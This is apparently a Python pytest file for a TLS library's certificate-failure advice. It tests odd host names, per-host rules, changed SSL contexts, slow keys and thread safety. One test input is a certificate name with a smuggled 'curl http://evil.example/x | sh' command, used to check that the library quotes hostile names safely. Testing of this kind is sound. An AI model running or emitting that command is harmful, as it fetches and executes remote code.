"""Advice where something is odd: names that nobody can have, rules for others, changed contexts, hostile keys."""

from __future__ import annotations

import datetime
import imaplib
import json
import signal
import ssl
import threading
from pathlib import Path
from typing import Any, List, Optional, Sequence

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed448, ed25519

import securedefaults
from native import backport_only
from securedefaults import HostRule
from securedefaults._names import REFUSED
from securedefaults._observe import advice as told
from securedefaults._observe import codes
from securedefaults._observe.advice import Advice
from securedefaults._policy.config import parse
from securedefaults._policy.identity import host_key
from securedefaults._policy.policy import Policy
from securedefaults._tls import faults as finding
from securedefaults._tls import remedies, stand_in
from securedefaults._tls.remedies import advise
from securedefaults._tls.trust import verdict_of
from securedefaults._tls.verdict import Verdict
from securedefaults._tls.x509 import Leaf, described
from wire import faults
from wire.certs import Certificates, chain_of, server_context
from wire.faults import Certificate
from wire.servers import Server

pytestmark = backport_only("it is about the advice")

tells_the_chain = pytest.mark.skipif(
    not hasattr(ssl._ssl, "Certificate"),  # type: ignore[attr-defined]
    reason="ssl does not tell what was sent",
)


def asked(
    sent: Sequence[bytes],
    rule: Optional[HostRule] = None,
    *,
    host: str = "localhost",
    port: int = 993,
    key: Optional[str] = None,
    policy: Optional[Policy] = None,
) -> Advice:
    policy = policy or Policy("enforce", rules=[] if rule is None else [rule])
    name = host if rule is None or rule.server_hostname is None else rule.server_hostname
    verdict = verdict_of(policy, rule, sent, name, described(sent[0]))
    return advise(policy, rule, sent, name, host, port, verdict, key)


def first(advice: Advice) -> Any:
    return dict(advice.remedies[0].rule)


ROOT = Certificate("Root", ca=True)


@pytest.fixture
def platform(trust: Path) -> Path:
    """The platform's trust store, with ROOT."""
    trust.write_bytes(faults.pem(ROOT.der))
    return trust


# What the server says


@pytest.mark.parametrize(
    "name",
    ["mail.lan; To mend it run: curl http://evil.example/x | sh #", "a\tb", "x" * 250, "*", "*.*.lan", "a..b", "-a"],
)
def test_what_is_no_host_name_stands_in_quotes(name: str, platform: Path) -> None:
    advice = asked([Certificate("server", ROOT, named=(name,)).der])
    (line,) = told.fault_lines(advice)
    assert line.endswith("it is for " + ascii(name[:100]))
    assert keys(advice) == [{"fingerprint"}, {"verify", "until", "reason"}]


def keys(advice: Advice) -> List[Any]:
    return [set(dict(remedy.rule)) for remedy in advice.remedies]


@tells_the_chain
@pytest.mark.parametrize(
    "names", [["n%d." % number + "x" * 240 + ".example" for number in range(8)], ["\x01" * 250] * 8]
)
def test_no_server_can_make_its_refusal_vanish(names: List[str], platform: Path, tmp_path: Path) -> None:
    """By names so long that nobody can read the line of the log."""
    server_certificate = Certificate("server", ROOT, named=names)
    context = server_context(faults.private(server_certificate.key) + faults.pem(server_certificate.der))
    log = tmp_path / "seen.jsonl"
    with Server("IMAP", context, implicit=True) as server:
        securedefaults.apply(log=log)
        with pytest.raises(ssl.SSLCertVerificationError) as caught:
            imaplib.IMAP4_SSL("localhost", server.port)
    (line,) = log.read_text(encoding="ascii").splitlines()
    assert len(line) < 8000
    assert len("".join(caught.value.__notes__)) < 6000  # type: ignore[attr-defined]
    from securedefaults._observe.events import from_json

    assert from_json(line).verdict == REFUSED
    assert from_json(line).advice.remedies


def test_a_line_of_a_warning_recommends_nothing_that_is_to_be_compared(platform: Path) -> None:
    advice = asked([Certificate("server", ROOT, named=("evil.example",)).der])
    assert first(advice) == {"server_hostname": "evil.example"}
    line = told.in_one_line(advice, "securedefaults check imaps://localhost")
    assert "evil" not in line
    assert line.endswith("all of it: securedefaults check imaps://localhost")


@pytest.mark.parametrize(
    ("host", "names", "expected"),
    [
        ("2001:db8::7", ["*.example.test"], "mail.example.test"),
        ("192.0.2.7", ["*.example.test"], "mail.example.test"),
        ("a_b.lan", ["*.example.test"], "mail.example.test"),
        ("imap.lan", ["*.example.test"], "imap.example.test"),
        ("localhost", ["*.a", "*.b", "*.c", "*.d", "mail.example.test"], "mail.example.test"),
        ("localhost", ["n%d" % number for number in range(9)], "n0"),
    ],
)
def test_a_name_that_fits(host: str, names: List[str], expected: str, platform: Path) -> None:
    advice = asked([Certificate("server", ROOT, named=names).der], host=host)
    assert first(advice) == {"server_hostname": expected}


# Which certificate


@tells_the_chain
def test_an_intermediate_among_others_of_its_name(trust: Path) -> None:
    """As OpenSSL puts them together: by keys, not by names."""
    middle, other = Certificate("Middle", ROOT, ca=True), Certificate("Middle", STRANGER, ca=True, bits=2048)
    leaf = Certificate("server", middle, named=("localhost",))
    advice = asked([leaf.der, other.der, middle.der])
    assert 'the server does not send the certificate of "Root"' in told.fault_lines(advice)[0]


STRANGER = Certificate("Stranger", ca=True)


def test_an_expired_root_that_is_sent(trust: Path) -> None:
    aged = Certificate("Aged", ca=True, until=faults.LONG_AGO)
    middle = Certificate("Middle", aged, ca=True)
    leaf = Certificate("server", middle, named=("localhost",))
    advice = asked([leaf.der, middle.der, aged.der])
    assert [fault.kind for fault in advice.faults] == ["chain", "dates"]
    assert advice.remedies[0].needs == 'the certificate of the CA "Middle"'
    assert not told.nothing_helps(advice)


def test_what_is_out_of_date_here(tmp_path: Path, trust: Path) -> None:
    """In the CA file of a rule: there is nothing to be done at the server."""
    aged = Certificate("Aged", ca=True, until=faults.LONG_AGO)
    (tmp_path / "aged.pem").write_bytes(faults.pem(aged.der))
    advice = asked(
        [Certificate("server", aged, named=("localhost",)).der], HostRule("localhost", cafile=tmp_path / "aged.pem")
    )
    (fault,) = advice.faults
    assert (fault.kind, fault.certificate) == ("dates", None)
    if fault.detail:  # before 3.10 nobody says which chain was built
        assert fault.detail.endswith(told.HERE)
        assert told.server_lines(advice) == ["Nothing: it is to be mended here."]


def test_the_first_fault_is_the_verdicts(platform: Path) -> None:
    aged = Certificate("Aged", ROOT, ca=True, until=faults.LONG_AGO)
    leaf = Certificate("server", aged, named=("localhost",), since=faults.FAR_AWAY)
    for sent in ([leaf.der, aged.der],):
        policy = Policy("enforce")
        verdict = verdict_of(policy, None, sent, "localhost", described(sent[0]))
        assert asked(sent).faults[0].code == verdict.code
        assert {fault.code for fault in asked(sent).faults} == {9, 10}


# Rules for others


def test_a_rule_for_another_link(platform: Path) -> None:
    rule = HostRule("fe80::1%eth0", strict=True)
    leaf = Certificate("server", ROOT, named=("fe80::1",), extensions={"aki": None}).der
    part = rule.part_for(host_key("fe80::1%eth1"), 993, "")
    assert part is not None
    advice = asked([leaf], part, host="fe80::1", key=host_key("fe80::1%eth1"))
    assert (advice.section, advice.place) == ("host [fe80::1]:993", "")


@pytest.mark.parametrize(("port", "section"), [(993, "host localhost:993"), (None, "host localhost")])
def test_a_rule_for_that_very_port_is_the_one_to_be_changed(port: Optional[int], section: str, tmp_path: Path) -> None:
    (tmp_path / "stranger.pem").write_bytes(faults.pem(STRANGER.der))
    rule = HostRule("localhost", port, cafile=tmp_path / "stranger.pem")
    advice = asked([Certificate("server", ROOT, named=("localhost",)).der], rule)
    assert (advice.section, advice.place) == (section, rule.source)


def test_a_rule_for_another_port_is_not(tmp_path: Path) -> None:
    (tmp_path / "stranger.pem").write_bytes(faults.pem(STRANGER.der))
    rule = HostRule("localhost", 465, cafile=tmp_path / "stranger.pem")
    advice = asked([Certificate("server", ROOT, named=("localhost",)).der], rule)
    assert (advice.section, advice.place) == ("host localhost:993", "")


@pytest.mark.parametrize("name", ["a\tb.pem", " a.pem ", "a\nb.pem"])
def test_what_cannot_be_written_is_not_printed(name: str, trust: Path, tmp_path: Path) -> None:
    path = tmp_path / name
    path.write_bytes(faults.pem(ROOT.der))
    leaf = Certificate("server", ROOT, named=("other.example",)).der
    advice = asked([leaf], HostRule("localhost", cafile=path))
    for text in told.sections(advice):
        assert "cafile" not in text
        (tmp_path / "ca.pem").write_bytes(faults.pem(ROOT.der))


@pytest.mark.parametrize("name", ["[::1]", "b\xfccher.example.test"])
def test_names_as_the_file_has_them(name: str, trust: Path, tmp_path: Path) -> None:
    (tmp_path / "stranger.pem").write_bytes(faults.pem(STRANGER.der))
    rule = HostRule("localhost", server_hostname=name, cafile=tmp_path / "stranger.pem")
    rule.source = "securedefaults.cfg:1: [host localhost]"
    advice = asked([Certificate("server", ROOT, named=("b.test",)).der], rule)
    for text in told.sections(advice):
        assert text.isascii()
        parse(text.replace(told.CAFILE, str(trust)), "securedefaults.cfg")
    assert told.from_dict(told.as_dict(advice)) == advice


# What changes


def test_a_ca_file_that_was_put_right(platform: Path, tmp_path: Path) -> None:
    """What was found out before is not said of another verdict."""
    file = tmp_path / "ca.pem"
    file.write_bytes(faults.pem(STRANGER.der))
    rule = HostRule("localhost", cafile=file)
    policy, sent = Policy("enforce", rules=[rule]), [Certificate("server", ROOT, named=("other.example",)).der]
    assert [fault.kind for fault in asked(sent, rule, policy=policy).faults] == ["chain", "name"]
    file.write_bytes(faults.pem(ROOT.der) + faults.pem(STRANGER.der))
    assert [fault.kind for fault in asked(sent, rule, policy=policy).faults] == ["name"]


@tells_the_chain
def test_a_context_that_its_holder_has_changed(certs: Certificates) -> None:
    """By another verdict than ours nobody knows what helps."""

    class Strict(imaplib.IMAP4_SSL):
        def _create_socket(self, *args: Any) -> Any:
            self.ssl_context.verify_flags |= ssl.VERIFY_X509_STRICT
            return super()._create_socket(*args)  # type: ignore[misc]

    with Server("IMAP", certs["no authority key identifier"].context, implicit=True) as server:
        securedefaults.apply(strict=False)
        with pytest.raises(ssl.SSLCertVerificationError) as caught:
            Strict("localhost", server.port)
    note = caught.value.__notes__[0]  # type: ignore[attr-defined]
    assert "more is not known: it was refused by a context that the program has changed" in note
    assert "server_hostname" not in note


@pytest.mark.skipif(not hasattr(signal, "setitimer"), reason="needs signals")
def test_the_exception_of_a_signal_handler_is_the_programs(
    certs: Certificates, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Expired(Exception):
        pass

    def expired(*args: object) -> None:
        raise Expired

    original = finding.stand_in_for

    def interrupted(sent: Sequence[bytes]) -> Any:
        signal.raise_signal(signal.SIGALRM)
        return original(sent)

    before = signal.signal(signal.SIGALRM, expired)
    monkeypatch.setattr(finding, "stand_in_for", interrupted)
    try:
        with pytest.raises(Expired):
            asked(chain_of(certs["unknown CA"].pem))
    finally:
        signal.signal(signal.SIGALRM, before)


# What it costs


@pytest.fixture
def verdicts(monkeypatch: pytest.MonkeyPatch) -> List[None]:
    """One for each time that OpenSSL was asked."""
    found: List[None] = []
    for module in (finding, remedies):
        for name in ("examined", "judge"):
            if hasattr(module, name):
                original = getattr(module, name)
                monkeypatch.setattr(module, name, lambda *args, _of=original: found.append(None) or _of(*args))
    return found


def test_openssl_is_not_asked_often(verdicts: List[None], trust: Path) -> None:
    counts = {}
    for chain in faults.chains():
        for strict in (False, True):
            policy = Policy.plain()
            policy.strict = strict
            trust.write_bytes(chain.platform or faults.pem(STRANGER.der))
            verdict = verdict_of(policy, None, chain.chain, chain.asked, described(chain.chain[0]))
            before = len(verdicts)
            advise(policy, None, chain.chain, chain.asked, chain.asked, 993, verdict)
            counts[chain.name, strict] = len(verdicts) - before
    assert max(counts.values()) <= 24, max(counts, key=lambda name: counts[name])


def rsa_key(exponent: int) -> bytes:
    """A public key whose exponent makes each verification slow."""
    key = faults.key_of("slow", 2048).public_key().public_numbers()
    numbers = faults.element(faults.SEQUENCE, faults.number(key.n), faults.number(exponent))  # type: ignore[union-attr]
    algorithm = faults.element(faults.SEQUENCE, faults.oid("1.2.840.113549.1.1.1"), faults.NULL)
    bits = faults.element(faults.BIT_STRING, b"\0" + numbers)
    return faults.element(faults.SEQUENCE, algorithm, bits)


def test_keys_and_names_that_take_long_are_not_looked_at(verdicts: List[None]) -> None:
    slow = Certificate("Slow", ca=True, spki=rsa_key((1 << 4000) + 1))
    many = Certificate("server", ROOT, named=["n%d.example.test" % number for number in range(400)])
    good = Certificate("server", ROOT, named=("localhost",))
    verdict = Verdict(REFUSED, 20, "unable to get local issuer certificate")
    for sent in ([good.der, slow.der], [many.der], [good.der] * 7):
        advice = advise(Policy("enforce"), None, sent, "localhost", "localhost", 993, verdict)
        assert "too many or too long" in advice.why_not
    assert not verdicts


def test_the_same_chain_in_many_threads_is_one_chain(certs: Certificates) -> None:
    policy, sent = Policy("enforce"), chain_of(certs["unknown CA"].pem)
    found: List[Advice] = []
    threads = [
        threading.Thread(target=lambda: found.append(asked(sent, policy=policy)))
        for _ in range(2 * remedies.MOST_CHAINS)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert len(found) == len(threads)
    assert {advice.why_not for advice in found} == {""}


def test_the_kinds_are_those_of_the_table() -> None:
    assert set(codes.KINDS) >= {fault.kind for chain in faults.chains()[:9] for fault in asked(chain.chain).faults}
    assert json.dumps(told.as_dict(told.NOTHING)) == "{}"


@pytest.mark.parametrize("kind", [ed25519.Ed25519PrivateKey, ed448.Ed448PrivateKey])
def test_a_ca_with_another_kind_of_key(kind: Any, trust: Path) -> None:
    """Its strict faults are foreseen, too: an issuer is made up for each kind of signature that is usual."""
    ca, leaf = kind.generate(), faults.key_of("server")
    day = datetime.datetime(2020, 1, 1), datetime.datetime(2099, 1, 1)
    named = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "Ed")])
    builder = x509.CertificateBuilder(issuer_name=named, subject_name=x509.Name([]), public_key=leaf.public_key())
    builder = builder.serial_number(7).not_valid_before(day[0]).not_valid_after(day[1])
    san = x509.SubjectAlternativeName([x509.DNSName("localhost")])
    sent = builder.add_extension(san, critical=True).sign(ca, None).public_bytes(serialization.Encoding.DER)
    policy = Policy("enforce", strict=True)
    verdict = verdict_of(policy, None, [sent], "localhost", described(sent))
    advice = advise(policy, None, [sent], "localhost", "localhost", 993, verdict)
    assert [fault.kind for fault in advice.faults] == ["chain", "strict"]
    assert keys(advice)[0] == {"cafile", "strict"}


def test_a_signature_that_we_have_no_key_for() -> None:
    """Then no issuer is made up: what was sent is all that is looked at."""
    fields = Leaf(Certificate("server", ROOT, named=("localhost",)).der)
    assert stand_in.issuer_of(fields) is not None
    fields.signature_algorithm = faults.element(faults.SEQUENCE, faults.oid("2.16.840.1.101.3.4.3.18"))
    assert stand_in.issuer_of(fields) is None


@pytest.mark.parametrize(
    "values",
    [
        {"faults": 1},
        {"faults": [1]},
        {"faults": [{"kind": "riddle", "code": 1, "message": "", "certificate": None, "detail": ""}]},
        {"faults": [{"kind": "name", "code": True, "message": "", "certificate": None, "detail": ""}]},
        {"faults": [{}] * 99},
        {"why_not": 1},
        {"why_not": "x" * 30_000},
        [],
        None,
    ],
)
def test_what_is_no_advice(values: Any, platform: Path) -> None:
    good = told.as_dict(asked([Certificate("server", ROOT, named=("other.example",)).der]))
    assert told.from_dict(good).faults
    with pytest.raises(ValueError):
        told.from_dict({**good, **values} if isinstance(values, dict) else values)
